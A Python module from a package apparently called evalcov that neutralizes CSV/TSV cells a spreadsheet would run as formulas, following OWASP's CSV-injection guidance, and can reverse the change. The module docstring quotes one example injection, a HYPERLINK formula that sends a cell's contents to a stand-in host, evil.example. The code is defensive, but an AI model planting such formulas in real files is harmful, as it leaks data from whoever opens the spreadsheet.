"""CSV/TSV cells that a spreadsheet opens as text, never as a formula.

Production traffic is written by anyone; a query such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` copied unchanged into a CSV becomes a live
formula when a labeler opens the file in Excel, LibreOffice or Google Sheets (CSV injection,
OWASP). Following OWASP's recommendation, a text cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a single quote in front, which spreadsheets show as
text. Numbers are left alone (a negative number is not a formula), so only text cells change.

The neutralization is reversible: :func:`restore_cell` strips the quote again, so a labeled
file maps back to the original text (and its :func:`evalcov.export.query_id`). Every CSV or
TSV evalcov writes goes through :func:`write_csv`; formats read by programs (JSONL, Parquet,
Label Studio, Argilla) keep the exact text.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralize_cell", "neutralize_frame", "restore_cell", "write_csv"]

# OWASP "CSV Injection": the characters a spreadsheet reads as the start of a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralize_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is a string a spreadsheet would run as a formula.

    Non-strings (numbers, None, NaN, timestamps) come back unchanged. A string that already
    starts with ``'`` also gets one more, so :func:`restore_cell` is an exact inverse.

    >>> neutralize_cell('=1+1')
    "'=1+1"
    >>> neutralize_cell('what is 1+1?')
    'what is 1+1?'
    """
    if isinstance(value, str) and value.startswith((*FORMULA_PREFIXES, "'")):
        return "'" + value
    return value


def restore_cell(value: Any) -> Any:
    """Inverse of :func:`neutralize_cell`: the original text of a cell read back from a file.

    Only a quote that :func:`neutralize_cell` could have added is removed (one followed by a
    formula character or by another quote), so texts that merely start with a quote, written
    without neutralization, are not touched.
    """
    if (
        isinstance(value, str)
        and value.startswith("'")
        and value[1:].startswith((*FORMULA_PREFIXES, "'"))
    ):
        return value[1:]
    return value


def neutralize_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell (and column name) passed through
    :func:`neutralize_cell`; numeric columns are not touched. Categorical columns count as
    text (``report.queries`` holds its name columns so)."""
    out = frame.copy()
    for col in out.columns:
        dtype = out[col].dtype
        if (
            pd.api.types.is_object_dtype(dtype)
            or pd.api.types.is_string_dtype(dtype)
            or isinstance(dtype, pd.CategoricalDtype)
        ):
            out[col] = out[col].map(neutralize_cell, na_action="ignore").astype(object)
    out.columns = [neutralize_cell(str(c)) for c in out.columns]
    return out


def write_csv(frame: pd.DataFrame, f: Any, *, sep: str = ",", neutralize: bool = True) -> None:
    """Write ``frame`` as UTF-8 CSV (RFC 4180: quoting, CRLF line ends) to a binary file.

    CRLF, not ``\\n``: Python's csv writer quotes a field only when it holds a character of the
    line terminator, so with ``\\n`` a text with a bare carriage return went out unquoted and
    split its row in two when read back.

    Parameters
    ----------
    frame : DataFrame
        Cells must already be scalars (lists and dicts serialized by the caller).
    f : binary file object
    sep : str, default=","
        ``"\\t"`` for TSV.
    neutralize : bool, default=True
        Neutralize cells that would run as spreadsheet formulas (:func:`neutralize_cell`).
        False writes the text exactly, for pipelines that read the file with a program.
    """
    if neutralize:
        frame = neutralize_frame(frame)
    f.write(frame.to_csv(index=False, sep=sep, lineterminator="\r\n").encode("utf-8"))
